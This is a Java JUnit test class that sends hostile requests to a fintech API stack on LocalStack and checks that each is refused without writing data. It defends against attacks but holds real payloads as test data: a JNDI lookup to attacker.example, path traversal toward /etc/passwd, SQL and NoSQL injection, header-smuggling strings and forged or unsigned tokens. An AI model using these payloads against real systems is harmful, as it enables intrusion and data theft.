package com.finflow.localstack.flow;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.finflow.identity.AccessTokens;
import com.finflow.identity.Email;
import com.finflow.identity.Role;
import com.finflow.identity.User;
import com.finflow.localstack.LocalStackRuntime;
import com.finflow.localstack.TestClients;
import com.nimbusds.jose.util.Base64URL;
import com.nimbusds.jwt.PlainJWT;
import com.nimbusds.jwt.SignedJWT;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.text.ParseException;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.UUID;
import java.util.function.Consumer;
import java.util.function.Supplier;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.ExtendWith;
import software.amazon.awssdk.services.dynamodb.DynamoDbClient;

/**
 * Hostile requests at the edge, sent through the real stack as an attacker would send them: sizes,
 * depth, encodings, media types, duplicate and unknown members, injection strings, path traversal,
 * wrong methods, other organizations' ids, roles and tokens. Each is refused with its status and
 * its problem type (or API Gateway's own {@code {"message"}}), and leaves every item of every
 * table, the provider and the bank as they were. Prints the table of cases it ran.
 */
@ExtendWith(RunningFinflow.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class EdgeAbuseTest {

  private static final String PROBLEM = "urn:finflow:problem:";
  private static final String MALFORMED = PROBLEM + "malformed-request";
  private static final String INVALID = PROBLEM + "invalid-request";
  private static final String UNSUPPORTED = PROBLEM + "unsupported-media-type";
  private static final String TOO_LARGE = PROBLEM + "payload-too-large";
  private static final String NOT_FOUND = PROBLEM + "not-found";
  private static final String FORBIDDEN = PROBLEM + "forbidden";
  private static final String METHOD_NOT_ALLOWED = PROBLEM + "method-not-allowed";
  private static final String GATEWAY_UNAUTHORIZED = "Unauthorized";
  private static final String GATEWAY_BAD_REQUEST = "Bad Request";
  private static final String GATEWAY_TOO_LARGE = "Request Entity Too Large";
  private static final String JSON_TYPE = "application/json";
  private static final int MIB = 1 << 20;
  private static final String TRAVERSAL = "..%2F..%2F..%2Fetc%2Fpasswd";
  private static final String DOTS_TRAVERSAL = "%2e%2e%2f%2e%2e%2fetc%2fpasswd";
  private static final String JNDI = "${jndi:ldap://attacker.example/a}";
  private static final ObjectMapper JSON = new ObjectMapper();

  private final List<String> rows = new ArrayList<>();
  private LocalStackRuntime runtime;
  private ApiClient api;
  private DynamoDbClient dynamoDb;
  private String rateLimitsTable;
  private Tenant owner;
  private Tenant stranger;
  private String memberToken;
  private String ownersBulkId;
  private String ownersBulkDelivery;
  private String ownersExtractionId;
  private String ownersExtractionDelivery;
  private WebhookReceiver receiver;
  private String strangersBulk;
  private final String strangersKey = UUID.randomUUID().toString();

  /**
   * One hostile request and how it must be answered: {@code type} is a problem type, or API
   * Gateway's message when it does not start with {@code urn:}. A request that reaches the
   * organization's submission quota takes one submission from it, by design: for those the rate
   * limit counters are left out of "nothing written".
   */
  private record Case(
      String name,
      String route,
      Supplier<RawHttp.Answer> request,
      int status,
      String type,
      Optional<String> pointer,
      boolean countsQuota,
      Consumer<RawHttp.Answer> also) {

    Case at(String expectedPointer) {
      return new Case(
          name, route, request, status, type, Optional.of(expectedPointer), countsQuota, also);
    }

    Case countingQuota() {
      return new Case(name, route, request, status, type, pointer, true, also);
    }

    Case also(Consumer<RawHttp.Answer> check) {
      return new Case(name, route, request, status, type, pointer, countsQuota, check);
    }
  }

  private static Case refused(
      String name, String route, int status, String type, Supplier<RawHttp.Answer> request) {
    return new Case(name, route, request, status, type, Optional.empty(), false, answer -> {});
  }

  @BeforeAll
  void setUp(LocalStackRuntime runtime) throws Exception {
    this.runtime = runtime;
    this.api = new ApiClient(runtime.httpBaseUrl());
    this.dynamoDb = TestClients.dynamoDb(runtime.awsEndpoint());
    this.rateLimitsTable =
        runtime.stack().ofType("AWS::DynamoDB::Table").stream()
            .filter(resource -> resource.logicalId().startsWith("RateLimitsTable"))
            .findFirst()
            .orElseThrow()
            .ref();
    this.owner = Tenant.signUp(api, "100000.00");
    this.stranger = Tenant.signUp(api, "100000.00");
    this.memberToken = memberOf(owner);
    this.receiver = new WebhookReceiver(0);
    ApiClient.Reply bulk =
        api.post(
            "/transfers/bulk",
            Optional.of(owner.accessToken()),
            owner
                .bulkOf(2, new Random(91), "partial")
                .put("webhook_url", receiver.url())
                .toString());
    assertThat(bulk.status()).as(bulk.body()).isEqualTo(201);
    this.ownersBulkId = bulk.json().get("bulk_id").asText();
    ApiClient.Reply extraction =
        api.post(
            "/extract-financial-data",
            Optional.of(owner.accessToken()),
            extraction(
                TestCpfs.of(918273645),
                ",\"async\":true,\"webhook_url\":\"" + receiver.url() + "\""));
    assertThat(extraction.status()).as(extraction.body()).isEqualTo(202);
    this.ownersExtractionId = extraction.json().get("extraction_id").asText();
    this.strangersBulk = bulk(stranger);
    ApiClient.Reply strangers =
        api.postWithHeader(
            "/transfers/bulk",
            Optional.of(stranger.accessToken()),
            strangersBulk,
            "idempotency-key",
            strangersKey);
    assertThat(strangers.status()).as(strangers.body()).isEqualTo(201);
    Settlement.awaitSettled(api, owner, ownersBulkId, Duration.ofSeconds(60));
    Settlement.awaitSettled(
        api, stranger, strangers.json().get("bulk_id").asText(), Duration.ofSeconds(60));
    this.ownersBulkDelivery =
        deliveredNotice("/transfers/bulk/" + ownersBulkId + "/webhook-deliveries");
    this.ownersExtractionDelivery =
        deliveredNotice("/extractions/" + ownersExtractionId + "/webhook-deliveries");
  }

  @TestFactory
  Stream<DynamicTest> everyHostileRequestIsRefusedAndWritesNothing() {
    return cases().stream()
        .map(
            abuse ->
                DynamicTest.dynamicTest(
                    abuse.name() + " (" + abuse.route() + ")", () -> refusedWithoutWriting(abuse)));
  }

  @AfterAll
  void printTheTableOfCases() {
    receiver.close();
    System.out.println("| case | route | status | problem type | nothing written |");
    System.out.println("|---|---|---|---|---|");
    rows.forEach(System.out::println);
    System.out.println(rows.size() + " edge abuse cases");
  }

  private List<Case> cases() {
    List<Case> cases = new ArrayList<>();
    cases.addAll(sizes());
    cases.addAll(readerLimits());
    cases.addAll(encodings());
    cases.addAll(mediaTypes());
    cases.addAll(duplicateMembers());
    cases.addAll(unknownMembers());
    cases.addAll(injections());
    cases.addAll(pathTraversals());
    cases.addAll(wrongMethods());
    cases.addAll(otherOrganizations());
    cases.addAll(rolesAndTokens());
    cases.addAll(notObjects());
    return cases;
  }

  private List<Case> sizes() {
    return List.of(
        refused(
                "account body 1 byte over 1 MiB",
                "POST /accounts",
                413,
                TOO_LARGE,
                () ->
                    json(
                        "POST",
                        "/accounts",
                        owner,
                        padded(openAccount(newIban(), "1.00"), MIB + 1)))
            .also(answer -> assertThat(json(answer).get("max_bytes").asInt()).isEqualTo(MIB)),
        refused(
                "bulk body 1 byte over 2 MiB",
                "POST /transfers/bulk",
                413,
                TOO_LARGE,
                () -> json("POST", "/transfers/bulk", owner, padded(bulk(owner), 2 * MIB + 1)))
            .also(answer -> assertThat(json(answer).get("max_bytes").asInt()).isEqualTo(2 * MIB)),
        refused(
                "bulk body of 1.5 MiB (within its 2 MiB) with an unknown member",
                "POST /transfers/bulk",
                422,
                INVALID,
                () ->
                    json(
                        "POST",
                        "/transfers/bulk",
                        owner,
                        padded(withMember(bulk(owner), "unexpected_key", "x"), 3 * MIB / 2)))
            .at("/unexpected_key"),
        refused(
            "bulk body of 7 MiB, over Lambda's 6 MB payload",
            "POST /transfers/bulk",
            413,
            GATEWAY_TOO_LARGE,
            () -> json("POST", "/transfers/bulk", owner, padded(bulk(owner), 7 * MIB))),
        refused(
            "account body of 11 MiB, over API Gateway's 10 MB",
            "POST /accounts",
            413,
            GATEWAY_TOO_LARGE,
            () ->
                json(
                    "POST", "/accounts", owner, padded(openAccount(newIban(), "1.00"), 11 * MIB))));
  }

  private List<Case> readerLimits() {
    return List.of(
        refused(
                "bulk nested 1,001 levels deep",
                "POST /transfers/bulk",
                400,
                MALFORMED,
                () ->
                    json(
                        "POST",
                        "/transfers/bulk",
                        owner,
                        "{\"request_id\":" + "[".repeat(1_001) + "]".repeat(1_001) + "}"))
            .also(detailMentions("nesting depth")),
        refused(
                "initial balance as a 1,001-digit number",
                "POST /accounts",
                400,
                MALFORMED,
                () ->
                    json(
                        "POST",
                        "/accounts",
                        owner,
                        "{\"iban\":\""
                            + newIban()
                            + "\",\"bic\":\""
                            + Tenant.BIC
                            + "\",\"currency\":\"EUR\",\"initial_balance\":"
                            + "9".repeat(1_001)
                            + "}"))
            .also(detailMentions("number")),
        refused(
                "counterparty name of 20,000 characters",
                "POST /transfers/bulk",
                400,
                MALFORMED,
                () ->
                    json(
                        "POST",
                        "/transfers/bulk",
                        owner,
                        bulk(owner).replace("Employee 0", "A".repeat(20_000))))
            .also(detailMentions("string")),
        refused(
                "member name of 1,000 characters",
                "POST /auth/register",
                400,
                MALFORMED,
                () ->
                    json(
                        "POST",
                        "/auth/register",
                        null,
                        withMember(registration("Long Names Ltd"), "k".repeat(1_000), "x")))
            .also(detailMentions("name")));
  }

  private List<Case> encodings() {
    return List.of(
        refused(
            "organization name with a raw 0xFF byte",
            "POST /auth/register",
            400,
            MALFORMED,
            () ->
                bytes(
                    "POST",
                    "/auth/register",
                    null,
                    JSON_TYPE,
                    spliced(registration("Acme XX Ltd"), "XX", new byte[] {(byte) 0xFF}))),
        refused(
            "BIC with an overlong encoding of \"/\" (C0 AF)",
            "POST /accounts",
            400,
            MALFORMED,
            () ->
                bytes(
                    "POST",
                    "/accounts",
                    owner,
                    JSON_TYPE,
                    spliced(
                        openAccount(newIban(), "1.00").replace(Tenant.BIC, "QNTOFRP1XX"),
                        "XX\"",
                        new byte[] {'X', (byte) 0xC0, (byte) 0xAF, '"'}))),
        refused(
            "organization name with a raw lone surrogate (ED A0 80)",
            "POST /auth/register",
            400,
            MALFORMED,
            () ->
                bytes(
                    "POST",
                    "/auth/register",
                    null,
                    JSON_TYPE,
                    spliced(
                        registration("Acme XX Ltd"),
                        "XX",
                        new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}))),
        refused(
                "organization name with an escaped lone surrogate (\\ud800)",
                "POST /auth/register",
                422,
                INVALID,
                () -> json("POST", "/auth/register", null, registration("Acme \\ud800 Ltd")))
            .at("/organization_name"),
        refused(
            "registration in UTF-16",
            "POST /auth/register",
            400,
            MALFORMED,
            () ->
                bytes(
                    "POST",
                    "/auth/register",
                    null,
                    JSON_TYPE,
                    registration("Sixteen Ltd").getBytes(StandardCharsets.UTF_16))));
  }

  private List<Case> mediaTypes() {
    return List.of(
        refused(
            "account as text/plain",
            "POST /accounts",
            415,
            UNSUPPORTED,
            () ->
                bytes(
                    "POST",
                    "/accounts",
                    owner,
                    "text/plain",
                    utf8(openAccount(newIban(), "999999999.00")))),
        refused(
            "bulk as application/x-www-form-urlencoded",
            "POST /transfers/bulk",
            415,
            UNSUPPORTED,
            () ->
                bytes(
                    "POST",
                    "/transfers/bulk",
                    owner,
                    "application/x-www-form-urlencoded",
                    utf8(bulk(owner)))),
        refused(
            "extraction as multipart/form-data",
            "POST /extract-financial-data",
            415,
            UNSUPPORTED,
            () ->
                bytes(
                    "POST",
                    "/extract-financial-data",
                    owner,
                    "multipart/form-data; boundary=x",
                    utf8(
                        "--x\r\ncontent-disposition: form-data; name=\"json\"\r\n\r\n"
                            + extraction(TestCpfs.of(111222333), "")
                            + "\r\n--x--\r\n"))),
        refused(
            "registration without a content type",
            "POST /auth/register",
            415,
            UNSUPPORTED,
            () -> bytes("POST", "/auth/register", null, null, utf8(registration("No Type Ltd")))),
        refused(
            "sign-in as application/json; charset=latin1",
            "POST /auth/login",
            415,
            UNSUPPORTED,
            () ->
                bytes(
                    "POST",
                    "/auth/login",
                    null,
                    "application/json; charset=latin1",
                    utf8("{\"email\":\"jane@example.com\",\"password\":\"whatever it is\"}"))));
  }

  private List<Case> duplicateMembers() {
    return List.of(
        refused(
                "initial_balance given twice",
                "POST /accounts",
                400,
                MALFORMED,
                () ->
                    json(
                        "POST",
                        "/accounts",
                        owner,
                        "{\"iban\":\""
                            + newIban()
                            + "\",\"bic\":\""
                            + Tenant.BIC
                            + "\",\"currency\":\"EUR\",\"initial_balance\":\"100.00\","
                            + "\"initial_balance\":\"999999999.00\"}"))
            .at("/initial_balance"),
        refused(
                "organization_iban given twice in a bulk",
                "POST /transfers/bulk",
                400,
                MALFORMED,
                () ->
                    json(
                        "POST",
                        "/transfers/bulk",
                        owner,
                        bulk(owner)
                            .replaceFirst(
                                "\"organization_iban\"",
                                "\"organization_iban\":\""
                                    + stranger.iban()
                                    + "\",\"organization_iban\"")))
            .at("/organization_iban"),
        refused(
                "amount given twice inside a transfer",
                "POST /transfers/bulk",
                400,
                MALFORMED,
                () ->
                    json(
                        "POST",
                        "/transfers/bulk",
                        owner,
                        bulk(owner).replaceFirst("\"amount\"", "\"amount\":\"0.01\",\"amount\"")))
            .at("/credit_transfers/0/amount"));
  }

  private List<Case> unknownMembers() {
    return List.of(
        refused(
                "unknown member beside a valid bulk",
                "POST /transfers/bulk",
                422,
                INVALID,
                () ->
                    json(
                        "POST",
                        "/transfers/bulk",
                        owner,
                        withMember(bulk(owner), "unexpected_key", "x")))
            .at("/unexpected_key"),
        refused(
                "unknown member inside a transfer",
                "POST /transfers/bulk",
                422,
                INVALID,
                () -> {
                  ObjectNode body = owner.bulkOf(1, new Random(3), "partial");
                  ((ObjectNode) body.get("credit_transfers").get(0)).put("unexpected_key", "x");
                  return json("POST", "/transfers/bulk", owner, body.toString());
                })
            .at("/credit_transfers/0/unexpected_key"),
        refused(
                "webhook_url misspelt webhook_ulr",
                "POST /transfers/bulk",
                422,
                INVALID,
                () ->
                    json(
                        "POST",
                        "/transfers/bulk",
                        owner,
                        withMember(bulk(owner), "webhook_ulr", "https://example.com/hooks")))
            .at("/webhook_ulr"),
        refused(
                "unknown nested object beside a valid account",
                "POST /accounts",
                422,
                INVALID,
                () ->
                    json(
                        "POST",
                        "/accounts",
                        owner,
                        openAccount(newIban(), "1.00")
                            .replaceFirst("\\{", "{\"metadata\":{\"overdraft\":\"1000000.00\"},")))
            .at("/metadata"),
        refused(
                "unknown member of an extraction",
                "POST /extract-financial-data",
                422,
                INVALID,
                () ->
                    json(
                        "POST",
                        "/extract-financial-data",
                        owner,
                        extraction(TestCpfs.of(111222333), ",\"asynch\":true")))
            .at("/asynch"));
  }

  private List<Case> injections() {
    return List.of(
        refused(
                "SQL in a counterparty name",
                "POST /transfers/bulk",
                422,
                INVALID,
                () ->
                    json(
                        "POST",
                        "/transfers/bulk",
                        owner,
                        bulk(owner).replace("Employee 0", "Robert'); DROP TABLE transfers;--")))
            .at("/credit_transfers/0/counterparty_name"),
        refused(
                "NoSQL operator {\"$ne\":null} as an IBAN",
                "POST /accounts",
                422,
                INVALID,
                () ->
                    json(
                        "POST",
                        "/accounts",
                        owner,
                        "{\"iban\":{\"$ne\":null},\"bic\":\""
                            + Tenant.BIC
                            + "\",\"currency\":\"EUR\",\"initial_balance\":\"1.00\"}"))
            .at("/iban"),
        refused(
                "NoSQL operator {\"$gt\":\"\"} as a password",
                "POST /auth/login",
                422,
                INVALID,
                () ->
                    json(
                        "POST",
                        "/auth/login",
                        null,
                        "{\"email\":\"jane@example.com\",\"password\":{\"$gt\":\"\"}}"))
            .at("/password"),
        refused(
                "JNDI lookup in a transfer description",
                "POST /transfers/bulk",
                422,
                INVALID,
                () ->
                    json(
                        "POST",
                        "/transfers/bulk",
                        owner,
                        bulk(owner).replace("Salary November", JNDI)))
            .at("/credit_transfers/0/description"),
        refused(
                "JNDI lookup as an extraction id",
                "GET /extractions/{extraction_id}",
                422,
                INVALID,
                () -> get("/extractions/" + encoded(JNDI), owner))
            .at("/path/extraction_id"),
        refused(
                "JNDI lookup in x-correlation-id",
                "GET /users/me",
                400,
                MALFORMED,
                () -> withHeader("GET", "/users/me", owner, "x-correlation-id", JNDI, ""))
            .at("/headers/x-correlation-id"),
        refused(
                "log line forged in x-correlation-id",
                "POST /transfers/bulk",
                400,
                MALFORMED,
                () ->
                    withHeader(
                        "POST",
                        "/transfers/bulk",
                        owner,
                        "x-correlation-id",
                        "abc\" level=ERROR msg=\"payout approved",
                        bulk(owner)))
            .at("/headers/x-correlation-id"),
        refused(
            "bare CR in x-correlation-id",
            "POST /accounts",
            400,
            GATEWAY_BAD_REQUEST,
            () ->
                raw(
                    "POST /accounts",
                    owner,
                    "x-correlation-id: abc\rset-cookie: x",
                    openAccount(newIban(), "1.00"))),
        refused(
            "bare CR in idempotency-key",
            "POST /transfers/bulk",
            400,
            GATEWAY_BAD_REQUEST,
            () ->
                raw(
                    "POST /transfers/bulk",
                    owner,
                    "idempotency-key: key\rx-forged: yes",
                    bulk(owner))),
        refused(
                "idempotency-key of 300 characters",
                "POST /transfers/bulk",
                422,
                INVALID,
                () ->
                    withHeader(
                        "POST",
                        "/transfers/bulk",
                        owner,
                        "idempotency-key",
                        "k".repeat(300),
                        bulk(owner)))
            .at("/headers/idempotency-key"));
  }

  private List<Case> pathTraversals() {
    return List.of(
        refused(
                "IBAN ..%2F..%2F..%2Fetc%2Fpasswd",
                "GET /accounts/{iban}", 422, INVALID, () -> get("/accounts/" + TRAVERSAL, owner))
            .at("/path/iban"),
        refused(
                "bulk id %2e%2e%2f%2e%2e%2fetc%2fpasswd",
                "GET /transfers/bulk/{bulk_id}",
                422,
                INVALID,
                () -> get("/transfers/bulk/" + DOTS_TRAVERSAL, owner))
            .at("/path/bulk_id"),
        refused(
                "bulk id ..%2F..%2F..%2Fetc%2Fpasswd",
                "GET /transfers/bulk/{bulk_id}/webhook-deliveries",
                422,
                INVALID,
                () -> get("/transfers/bulk/" + TRAVERSAL + "/webhook-deliveries", owner))
            .at("/path/bulk_id"),
        refused(
                "delivery id ..%2F..%2F..%2Fetc%2Fpasswd",
                "POST /transfers/bulk/{bulk_id}/webhook-deliveries/{delivery_id}/redeliver",
                422,
                INVALID,
                () ->
                    json(
                        "POST",
                        "/transfers/bulk/"
                            + ownersBulkId
                            + "/webhook-deliveries/"
                            + TRAVERSAL
                            + "/redeliver",
                        owner,
                        "{}"))
            .at("/path/delivery_id"),
        refused(
                "extraction id ..%2F..%2F..%2Fetc%2Fpasswd",
                "GET /extractions/{extraction_id}",
                422,
                INVALID,
                () -> get("/extractions/" + TRAVERSAL, owner))
            .at("/path/extraction_id"),
        refused(
                "extraction id %2e%2e%2f%2e%2e%2fetc%2fpasswd",
                "GET /extractions/{extraction_id}/webhook-deliveries",
                422,
                INVALID,
                () -> get("/extractions/" + DOTS_TRAVERSAL + "/webhook-deliveries", owner))
            .at("/path/extraction_id"),
        refused(
                "delivery id %2e%2e%2f%2e%2e%2fetc%2fpasswd",
                "POST /extractions/{extraction_id}/webhook-deliveries/{delivery_id}/redeliver",
                422,
                INVALID,
                () ->
                    json(
                        "POST",
                        "/extractions/"
                            + ownersExtractionId
                            + "/webhook-deliveries/"
                            + DOTS_TRAVERSAL
                            + "/redeliver",
                        owner,
                        "{}"))
            .at("/path/delivery_id"),
        refused(
            "literal /../ climbing out of a bulk",
            "GET /transfers/bulk/../../../etc/passwd",
            400,
            GATEWAY_BAD_REQUEST,
            () -> raw("GET /transfers/bulk/../../../etc/passwd", owner, "", "")));
  }

  private List<Case> wrongMethods() {
    return List.of(
        wrongMethod("DELETE", "/accounts/" + "{owner}", "GET /accounts/{iban}", "GET"),
        wrongMethod("PUT", "/transfers/bulk", "POST /transfers/bulk", "POST"),
        wrongMethod("DELETE", "/transfers/bulk/{bulk}", "GET /transfers/bulk/{bulk_id}", "GET"),
        wrongMethod("GET", "/extract-financial-data", "POST /extract-financial-data", "POST"),
        wrongMethod(
            "PATCH", "/extractions/{extraction}", "GET /extractions/{extraction_id}", "GET"),
        wrongMethod("DELETE", "/users/me", "GET /users/me", "GET"),
        wrongMethod("GET", "/auth/login", "POST /auth/login", "POST"),
        wrongMethod("PUT", "/organizations/me/members", "POST /organizations/me/members", "POST"),
        wrongMethod("POST", "/health", "GET /health", "GET"),
        wrongMethod("DELETE", "/openapi.json", "GET /openapi.json", "GET"),
        wrongMethod(
            "PUT",
            "/extractions/{extraction}/webhook-deliveries",
            "GET /extractions/{extraction_id}/webhook-deliveries",
            "GET"),
        refused("unknown path /admin", "GET /admin", 404, NOT_FOUND, () -> get("/admin", owner)));
  }

  private Case wrongMethod(String method, String path, String route, String allowed) {
    return refused(
            method + " where only " + allowed + " is routed",
            method + " " + route.substring(route.indexOf(' ') + 1),
            405,
            METHOD_NOT_ALLOWED,
            () ->
                bytes(
                    method,
                    path.replace("{owner}", owner.iban())
                        .replace("{bulk}", ownersBulkId)
                        .replace("{extraction}", ownersExtractionId),
                    owner,
                    null,
                    new byte[0]))
        .also(answer -> assertThat(answer.headers().get("allow")).contains(allowed));
  }

  private List<Case> otherOrganizations() {
    String unknownBulk = UUID.randomUUID().toString();
    String unknownExtraction = UUID.randomUUID().toString();
    return List.of(
        refused(
                "another organization's account",
                "GET /accounts/{iban}",
                404,
                NOT_FOUND,
                () -> get("/accounts/" + owner.iban(), stranger))
            .also(answersAsFor(() -> get("/accounts/" + newIban(), stranger))),
        refused(
                "another organization's bulk",
                "GET /transfers/bulk/{bulk_id}",
                404,
                NOT_FOUND,
                () -> get("/transfers/bulk/" + ownersBulkId, stranger))
            .also(answersAsFor(() -> get("/transfers/bulk/" + unknownBulk, stranger))),
        refused(
                "another organization's bulk deliveries",
                "GET /transfers/bulk/{bulk_id}/webhook-deliveries",
                404,
                NOT_FOUND,
                () -> get("/transfers/bulk/" + ownersBulkId + "/webhook-deliveries", stranger))
            .also(
                answersAsFor(
                    () -> get("/transfers/bulk/" + unknownBulk + "/webhook-deliveries", stranger))),
        refused(
                "another organization's bulk delivery redelivered",
                "POST /transfers/bulk/{bulk_id}/webhook-deliveries/{delivery_id}/redeliver",
                404,
                NOT_FOUND,
                () ->
                    json(
                        "POST",
                        "/transfers/bulk/"
                            + ownersBulkId
                            + "/webhook-deliveries/"
                            + ownersBulkDelivery
                            + "/redeliver",
                        stranger,
                        "{}"))
            .also(
                answersAsFor(
                    () ->
                        json(
                            "POST",
                            "/transfers/bulk/"
                                + unknownBulk
                                + "/webhook-deliveries/bulk.settled:"
                                + unknownBulk
                                + "/redeliver",
                            stranger,
                            "{}"))),
        refused(
                "another organization's extraction",
                "GET /extractions/{extraction_id}",
                404,
                NOT_FOUND,
                () -> get("/extractions/" + ownersExtractionId, stranger))
            .also(answersAsFor(() -> get("/extractions/" + unknownExtraction, stranger))),
        refused(
                "another organization's extraction deliveries",
                "GET /extractions/{extraction_id}/webhook-deliveries",
                404,
                NOT_FOUND,
                () -> get("/extractions/" + ownersExtractionId + "/webhook-deliveries", stranger))
            .also(
                answersAsFor(
                    () ->
                        get(
                            "/extractions/" + unknownExtraction + "/webhook-deliveries",
                            stranger))),
        refused(
                "another organization's extraction delivery redelivered",
                "POST /extractions/{extraction_id}/webhook-deliveries/{delivery_id}/redeliver",
                404,
                NOT_FOUND,
                () ->
                    json(
                        "POST",
                        "/extractions/"
                            + ownersExtractionId
                            + "/webhook-deliveries/"
                            + ownersExtractionDelivery
                            + "/redeliver",
                        stranger,
                        "{}"))
            .also(
                answersAsFor(
                    () ->
                        json(
                            "POST",
                            "/extractions/"
                                + unknownExtraction
                                + "/webhook-deliveries/extraction.completed:"
                                + unknownExtraction
                                + "/redeliver",
                            stranger,
                            "{}"))),
        refused(
                "a bulk debiting another organization's account",
                "POST /transfers/bulk",
                422,
                INVALID,
                () -> json("POST", "/transfers/bulk", stranger, bulk(owner)))
            .at("/organization_iban")
            .also(
                answersAsFor(
                    () ->
                        json(
                            "POST",
                            "/transfers/bulk",
                            stranger,
                            bulk(owner).replace(owner.iban(), newIban()))))
            .countingQuota(),
        refused(
                "an idempotency key reused with another payload",
                "POST /transfers/bulk",
                422,
                PROBLEM + "idempotency-key-reused",
                () ->
                    withHeader(
                        "POST",
                        "/transfers/bulk",
                        stranger,
                        "idempotency-key",
                        strangersKey,
                        strangersBulk.replaceFirst(
                            "\"amount\":\"[0-9.]+\"", "\"amount\":\"9999.99\"")))
            .countingQuota());
  }

  private List<Case> rolesAndTokens() {
    return List.of(
        refused(
            "a member opening an account",
            "POST /accounts",
            403,
            FORBIDDEN,
            () ->
                jsonWith("POST", "/accounts", memberToken, openAccount(newIban(), "999999999.00"))),
        refused(
            "a member adding a member",
            "POST /organizations/me/members",
            403,
            FORBIDDEN,
            () ->
                jsonWith(
                    "POST",
                    "/organizations/me/members",
                    memberToken,
                    "{\"email\":\"mallory-"
                        + UUID.randomUUID()
                        + "@example.com\",\"password\":\"correct horse battery staple\",\"role\":\"admin\"}")),
        refused(
                "a member reading the webhook secret",
                "GET /organizations/me/webhook-secret",
                403,
                FORBIDDEN,
                () -> getWith("/organizations/me/webhook-secret", memberToken))
            .also(answer -> assertThat(answer.body()).doesNotContain("\"secret\"")),
        refused(
            "an expired token signed by the real key",
            "GET /transfers/bulk/{bulk_id}",
            401,
            GATEWAY_UNAUTHORIZED,
            () ->
                getWith(
                    "/transfers/bulk/" + ownersBulkId,
                    tokenIssuedAt(Instant.now().minus(Duration.ofMinutes(20)), "finflow-api"))),
        refused(
            "a token for another audience",
            "POST /transfers/bulk",
            401,
            GATEWAY_UNAUTHORIZED,
            () ->
                jsonWith(
                    "POST",
                    "/transfers/bulk",
                    tokenIssuedAt(Instant.now(), "some-other-api"),
                    bulk(owner))),
        refused(
            "a member's token forged to say admin",
            "POST /accounts",
            401,
            GATEWAY_UNAUTHORIZED,
            () ->
                jsonWith(
                    "POST", "/accounts", forgedAdmin(memberToken), openAccount(newIban(), "1.00"))),
        refused(
            "an unsigned alg=none token",
            "POST /transfers/bulk",
            401,
            GATEWAY_UNAUTHORIZED,
            () -> jsonWith("POST", "/transfers/bulk", unsigned(owner.accessToken()), bulk(owner))),
        refused(
            "no token at all",
            "POST /extract-financial-data",
            401,
            GATEWAY_UNAUTHORIZED,
            () ->
                jsonWith(
                    "POST",
                    "/extract-financial-data",
                    null,
                    extraction(TestCpfs.of(111222333), ""))));
  }

  private List<Case> notObjects() {
    return List.of(
        refused(
            "a JSON array instead of a bulk",
            "POST /transfers/bulk",
            400,
            MALFORMED,
            () -> json("POST", "/transfers/bulk", owner, "[" + bulk(owner) + "]")),
        refused(
            "a JSON number instead of an account",
            "POST /accounts",
            400,
            MALFORMED,
            () -> json("POST", "/accounts", owner, "42")),
        refused(
            "JSON null instead of a registration",
            "POST /auth/register",
            400,
            MALFORMED,
            () -> json("POST", "/auth/register", null, "null")),
        refused(
            "a second object after the account",
            "POST /accounts",
            400,
            MALFORMED,
            () ->
                json(
                    "POST",
                    "/accounts",
                    owner,
                    openAccount(newIban(), "1.00") + openAccount(newIban(), "2.00"))),
        refused(
            "an empty JSON body",
            "POST /extract-financial-data",
            400,
            MALFORMED,
            () -> bytes("POST", "/extract-financial-data", owner, JSON_TYPE, new byte[0])));
  }

  private void refusedWithoutWriting(Case abuse) {
    StackState before = state();

    RawHttp.Answer answer = abuse.request().get();

    assertThat(answer.status()).as(answer.body()).isEqualTo(abuse.status());
    assertThat(answer.headers().get("content-type")).contains("json");
    JsonNode body = json(answer);
    if (abuse.type().startsWith(PROBLEM)) {
      assertThat(answer.headers().get("content-type")).startsWith("application/problem+json");
      assertThat(body.get("type").asText()).as(answer.body()).isEqualTo(abuse.type());
      assertThat(body.get("status").asInt()).isEqualTo(abuse.status());
    } else {
      assertThat(body.get("message").asText()).as(answer.body()).isEqualTo(abuse.type());
    }
    abuse
        .pointer()
        .ifPresent(
            pointer ->
                assertThat(body.path("errors").findValuesAsText("pointer"))
                    .as(answer.body())
                    .containsExactly(pointer));
    abuse.also().accept(answer);
    StackState after = state();
    if (abuse.countsQuota()) {
      assertThat(after.without(rateLimitsTable))
          .as("every item but the rate-limit counters, provider call and payment")
          .isEqualTo(before.without(rateLimitsTable));
    } else {
      assertThat(after).as("every item, provider call and payment").isEqualTo(before);
    }
    rows.add(
        "| "
            + abuse.name().replace("|", "\\|")
            + " | "
            + abuse.route()
            + " | "
            + answer.status()
            + " | "
            + (abuse.type().startsWith(PROBLEM)
                ? abuse.type().substring(PROBLEM.length())
                : "gateway `{\"message\":\"" + abuse.type() + "\"}`")
            + abuse.pointer().map(pointer -> " `" + pointer + "`").orElse("")
            + " | yes"
            + (abuse.countsQuota() ? " (the submission quota counts the attempt)" : "")
            + " |");
  }

  /**
   * A check that an answer says no more than the answer to the same request for an id nobody has:
   * the same problem but for the path it echoes, and none of the owner's data.
   */
  private Consumer<RawHttp.Answer> answersAsFor(Supplier<RawHttp.Answer> unknownId) {
    return answer -> {
      RawHttp.Answer unknown = unknownId.get();
      assertThat(unknown.status()).isEqualTo(answer.status());
      assertThat(withoutEchoes(json(answer))).isEqualTo(withoutEchoes(json(unknown)));
      assertThat(withoutEchoes(json(answer)).toString())
          .doesNotContain("balance")
          .doesNotContain("delivered")
          .doesNotContain("127.0.0.1")
          .doesNotContain(owner.iban().substring(4));
    };
  }

  private static JsonNode withoutEchoes(JsonNode problem) {
    ObjectNode copy = problem.deepCopy();
    copy.remove(List.of("instance", "correlation_id"));
    return copy;
  }

  private StackState state() {
    return StackState.of(runtime, dynamoDb);
  }

  private static JsonNode json(RawHttp.Answer answer) {
    try {
